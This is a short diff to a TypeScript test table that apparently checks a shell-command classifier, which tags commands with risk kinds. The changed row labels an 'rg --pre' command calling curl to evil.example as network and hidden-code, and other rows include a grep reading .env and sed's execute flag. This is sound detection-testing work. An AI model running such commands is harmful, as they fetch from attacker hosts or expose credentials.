@@ -7,7 +7,7 @@ import { kindsOf } from "./line.ts";
 const ROWS: readonly (readonly [command: string, kinds: string])[] = [
   ['grep -r "https://example.com" src', ""],
   ["grep -e root -f .env x", "credential-read"],
-  ["rg --pre 'curl http://evil.example' foo", "network"],
+  ["rg --pre 'curl http://evil.example' foo", "network hidden-code"],
   ["rg -n foo src", ""],
   ["sed -n '1,5p' x", "code:sed"],
   ["sed -e 's/a/b/e' x", "code:sed"],
